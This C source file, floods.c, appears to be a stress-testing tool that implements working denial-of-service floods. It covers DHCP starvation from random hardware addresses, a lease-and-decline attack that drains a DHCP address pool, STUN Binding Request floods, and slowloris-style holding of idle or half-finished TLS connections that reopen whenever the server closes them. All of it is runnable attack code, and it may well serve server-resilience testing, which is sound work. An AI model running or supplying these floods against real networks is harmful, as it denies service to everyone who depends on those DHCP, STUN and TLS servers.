// What one hostile host can send, as fast as one core goes.
//
//   floods discover INTERFACE SECONDS            DISCOVERs from random hardware addresses
//   floods decline INTERFACE SECONDS             takes leases for random hardware addresses and declines each
//   floods stun ADDRESS PORT SECONDS             Binding Requests of users that nobody knows
//   floods connect ADDRESS PORT SECONDS COUNT    holds so many connections, without a word
//   floods hello ADDRESS PORT SECONDS COUNT      holds so many connections, each with the beginning of a TLS handshake
//
// What the server closes is opened anew. Prints lines of a name and a value.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { batch = 64, frame_size = 14 + 20 + 8 + 300, fixed = 14 + 20 + 8 };
enum { discover_type = 1, offer_type = 2, request_type = 3, decline_type = 4, ack_type = 5 };

static void give_up(const char *what) {
  perror(what);
  exit(1);
}

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return (double)time.tv_sec + 1e-9 * (double)time.tv_nsec;
}

static uint64_t dice = 88172645463325252ull;
static uint64_t roll(void) {
  dice ^= dice << 13, dice ^= dice >> 7, dice ^= dice << 17;
  return dice;
}

static uint16_t checksum(const uint8_t *bytes, int count) {
  uint32_t sum = 0;
  for (int i = 0; i < count; i += 2) sum += (uint32_t)bytes[i] << 8 | bytes[i + 1];
  while (sum >> 16) sum = (sum & 0xFFFF) + (sum >> 16);
  return (uint16_t)~sum;
}

// MARK: DHCP by frames

struct link {
  int socket;
  struct sockaddr_ll to;
};

static struct link open_link(const char *interface) {
  struct link link = {.socket = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP))};
  link.to = (struct sockaddr_ll){
      .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = (int)if_nametoindex(interface), .sll_halen = 6};
  memset(link.to.sll_addr, 0xff, 6);
  if (link.socket < 0 || !link.to.sll_ifindex || bind(link.socket, (struct sockaddr *)&link.to, sizeof link.to))
    give_up("the link");
  int room = 8 << 20;
  setsockopt(link.socket, SOL_SOCKET, SO_RCVBUFFORCE, &room, sizeof room);
  return link;
}

// A broadcast frame with a message of that type, whose last options are given.
static void put_frame(uint8_t frame[frame_size], int type, const uint8_t mac[6], const uint8_t *options, size_t size) {
  static const uint8_t wanted[] = {55, 6, 1, 3, 6, 15, 43, 67};
  memset(frame, 0, frame_size);
  memset(frame, 0xff, 6);
  memcpy(frame + 6, mac, 6);
  frame[12] = 8;
  uint8_t *ip = frame + 14, *udp = ip + 20, *message = frame + fixed;
  const int length = frame_size - 14;
  memcpy(ip, "\x45\0\0\0\0\0\0\0\x40\x11", 10);
  ip[2] = (uint8_t)(length >> 8), ip[3] = (uint8_t)length;
  memset(ip + 16, 0xff, 4);
  uint16_t sum = checksum(ip, 20);
  ip[10] = (uint8_t)(sum >> 8), ip[11] = (uint8_t)sum;
  udp[1] = 68, udp[3] = 67;
  udp[4] = (uint8_t)((length - 20) >> 8), udp[5] = (uint8_t)(length - 20);
  message[0] = message[1] = 1, message[2] = 6;
  memcpy(message + 4, mac + 2, 4);
  message[10] = 0x80;
  memcpy(message + 28, mac, 6);
  memcpy(message + 236, "\x63\x82\x53\x63\x35\x01", 6);
  message[242] = (uint8_t)type;
  memcpy(message + 243, wanted, sizeof wanted);
  if (size) memcpy(message + 243 + sizeof wanted, options, size);
  message[243 + sizeof wanted + size] = 255;
}

static void random_mac(uint8_t mac[6]) {
  uint64_t value = roll();
  memcpy(mac, &value, 6);
  mac[0] = 0x02, mac[1] = 0x66;
}

static void discover(const char *interface, double seconds) {
  static uint8_t frames[batch][frame_size];
  struct iovec vectors[batch];
  struct mmsghdr messages[batch];
  struct link link = open_link(interface);
  for (int i = 0; i < batch; i++) {
    vectors[i] = (struct iovec){frames[i], frame_size};
    messages[i].msg_hdr = (struct msghdr){
        .msg_name = &link.to, .msg_namelen = sizeof link.to, .msg_iov = &vectors[i], .msg_iovlen = 1};
  }
  long sent = 0;
  for (double end = now() + seconds; now() < end;) {
    for (int i = 0; i < batch; i++) {
      uint8_t mac[6];
      random_mac(mac);
      put_frame(frames[i], discover_type, mac, NULL, 0);
    }
    int count = sendmmsg(link.socket, messages, batch, 0);
    if (count > 0) sent += count;
  }
  printf("sent %ld\n", sent);
}

static void send_frame(struct link *link, int type, const uint8_t mac[6], const uint8_t *options, size_t size) {
  uint8_t frame[frame_size];
  put_frame(frame, type, mac, options, size);
  sendto(link->socket, frame, sizeof frame, 0, (struct sockaddr *)&link->to, sizeof link->to);
}

static void decline(const char *interface, double seconds) {
  struct link link = open_link(interface);
  struct timeval wait = {.tv_usec = 1000};
  setsockopt(link.socket, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
  long discovered = 0, declined = 0;
  for (double end = now() + seconds, next = 0; now() < end;) {
    uint8_t frame[2048], mac[6];
    if (now() >= next) {
      for (int i = 0; i < 20; i++, discovered++) {
        random_mac(mac);
        send_frame(&link, discover_type, mac, NULL, 0);
      }
      next = now() + 0.005;
    }
    ssize_t size = recv(link.socket, frame, sizeof frame, 0);
    if (size < fixed + 240 || frame[23] != 17 || frame[37] != 68) continue;
    const uint8_t *message = frame + fixed, *end_of = frame + size, *server = NULL;
    if (message[0] != 2 || message[28] != 0x02 || message[29] != 0x66) continue;
    int type = 0;
    for (const uint8_t *at = message + 240; at + 2 < end_of && *at != 255 && at + 2 + at[1] <= end_of; at += 2 + at[1]) {
      if (at[0] == 53) type = at[2];
      if (at[0] == 54 && at[1] == 4) server = at + 2;
    }
    if (!server || (type != offer_type && type != ack_type)) continue;
    uint8_t options[12] = {50, 4, 0, 0, 0, 0, 54, 4};
    memcpy(options + 2, message + 16, 4);
    memcpy(options + 8, server, 4);
    memcpy(mac, message + 28, 6);
    send_frame(&link, type == offer_type ? request_type : decline_type, mac, options, sizeof options);
    if (type == ack_type) declined++;
  }
  printf("sent %ld\ndeclined %ld\n", discovered, declined);
}

// MARK: STUN

static struct sockaddr_in address_of(const char *host, const char *port) {
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
  if (inet_pton(AF_INET, host, &address.sin_addr) != 1) give_up("the address");
  return address;
}

static void stun(const char *host, const char *port, double seconds) {
  struct sockaddr_in to = address_of(host, port);
  enum { sockets = 256 };
  int own[sockets];
  for (int i = 0; i < sockets; i++)
    if ((own[i] = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0)) < 0 || connect(own[i], (struct sockaddr *)&to, sizeof to))
      give_up("a socket");
  // A Binding Request (RFC 3489) with a USERNAME of 16 bytes and a MESSAGE-INTEGRITY that is none.
  uint8_t message[20 + 20 + 24] = {0, 1, 0, 44};
  memcpy(message + 20, "\0\6\0\20stranger", 12);
  memcpy(message + 40, "\0\10\0\24", 4);
  long sent = 0;
  for (double end = now() + seconds; now() < end;) {
    for (int i = 0; i < sockets; i++) {
      uint64_t value = roll();
      memcpy(message + 4, &value, 8);
      memcpy(message + 12, &value, 8);
      snprintf((char *)message + 32, 9, "%08x", (unsigned)value);
      memcpy(message + 40, "\0\10\0\24", 4);
      if (send(own[i], message, sizeof message, 0) > 0) sent++;
    }
  }
  printf("sent %ld\n", sent);
}

// MARK: Connections

static bool open_one(int poller, const struct sockaddr_in *to) {
  int own = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  struct epoll_event events = {.events = EPOLLOUT | EPOLLRDHUP | EPOLLET, .data.fd = own};
  if (own < 0) return false;
  if ((connect(own, (const struct sockaddr *)to, sizeof *to) && errno != EINPROGRESS) ||
      epoll_ctl(poller, EPOLL_CTL_ADD, own, &events)) {
    close(own);
    return false;
  }
  return true;
}

static void hold(const char *host, const char *port, double seconds, int count, bool says_hello) {
  struct sockaddr_in to = address_of(host, port);
  struct rlimit limit = {1 << 18, 1 << 18};
  setrlimit(RLIMIT_NOFILE, &limit);
  // A record of 512 bytes with a ClientHello, of which most never comes.
  uint8_t hello[100] = {22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3};
  int poller = epoll_create1(EPOLL_CLOEXEC), open = 0;
  long opened = 0, closed = 0, most = 0;
  for (double end = now() + seconds; now() < end;) {
    for (int i = 0; i < 64 && open < count; i++, open++, opened++)
      if (!open_one(poller, &to)) break;
    if (open > most) most = open;
    struct epoll_event events[256];
    int ready = epoll_wait(poller, events, 256, open < count ? 0 : 20);
    for (int i = 0; i < ready; i++) {
      if (events[i].events & (EPOLLRDHUP | EPOLLHUP | EPOLLERR)) {
        close(events[i].data.fd);
        open--, closed++;
      } else if (says_hello && events[i].events & EPOLLOUT) {
        if (send(events[i].data.fd, hello, sizeof hello, MSG_NOSIGNAL) < 0) continue;
      }
    }
  }
  printf("sent %ld\nclosed %ld\nmost %ld\n", opened, closed, most);
}

int main(int count, char **words) {
  if (count == 4 && !strcmp(words[1], "discover")) {
    discover(words[2], atof(words[3]));
  } else if (count == 4 && !strcmp(words[1], "decline")) {
    decline(words[2], atof(words[3]));
  } else if (count == 5 && !strcmp(words[1], "stun")) {
    stun(words[2], words[3], atof(words[4]));
  } else if (count == 6 && !strcmp(words[1], "connect")) {
    hold(words[2], words[3], atof(words[4]), atoi(words[5]), false);
  } else if (count == 6 && !strcmp(words[1], "hello")) {
    hold(words[2], words[3], atof(words[4]), atoi(words[5]), true);
  } else {
    fprintf(stderr, "floods: see the head of floods.c\n");
    return 2;
  }
  return 0;
}
